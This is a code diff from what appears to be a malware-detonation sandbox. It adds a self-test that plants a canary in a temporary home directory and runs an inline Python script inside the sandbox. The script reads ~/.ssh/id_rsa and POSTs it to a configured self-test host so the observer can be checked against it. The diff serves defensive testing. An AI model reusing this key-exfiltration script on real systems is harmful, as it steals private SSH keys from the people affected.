@@ -251,6 +251,40 @@ PhaseSpec npm_require(const DetonationOptions& o, const DetonationDirs& d, const
   return s;
 }
 
+Expected<Trace, std::string> self_test(const DetonationOptions& o) {
+  const DetonationDirs d = dirs_for(o.work_dir);
+  for (const std::string& p : std::vector<std::string>{d.home, d.tmp}) {
+    if (auto ok = make_dir(p); !ok) return Unexpected(ok.error());
+  }
+  auto canary = make_canary();
+  if (!canary) return Unexpected(canary.error());
+  if (auto ok = plant(d.home, *canary); !ok) return Unexpected(ok.error());
+  auto observer = Observer::create({d.home, *canary, {d.tmp}});
+  if (!observer) return Unexpected(observer.error());
+  Observer& obs = **observer;
+  obs.trace().ecosystem = "self-test";
+  obs.trace().home = d.home;
+  PhaseSpec s;
+  s.phase = "self-test";
+  s.program = o.python;
+  s.argv = {"python3", "-c",
+            "import os, socket\n"
+            "os.system('true')\n"
+            "key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
+            "host = '" +
+                std::string(kSelfTestHost) +
+                "'\n"
+                "s = socket.create_connection((host, 80), timeout=5)\n"
+                "s.sendall(b'POST /self-test HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\nContent-Length: ' + "
+                "str(len(key)).encode() + b'\\r\\n\\r\\n' + key)\n"
+                "s.recv(64)\n"};
+  s.env = base_environment(d, *canary, "/usr/local/bin:/usr/bin:/bin");
+  s.cwd = d.tmp;
+  s.timeout = o.import_timeout;
+  obs.run(s);
+  return std::move(obs.trace());
+}
+
 Expected<Trace, std::string> detonate(const DetonationOptions& o) {
   const DetonationDirs d = dirs_for(o.work_dir);
   for (const std::string& p : std::vector<std::string>{d.home, d.tmp, d.cache}) {
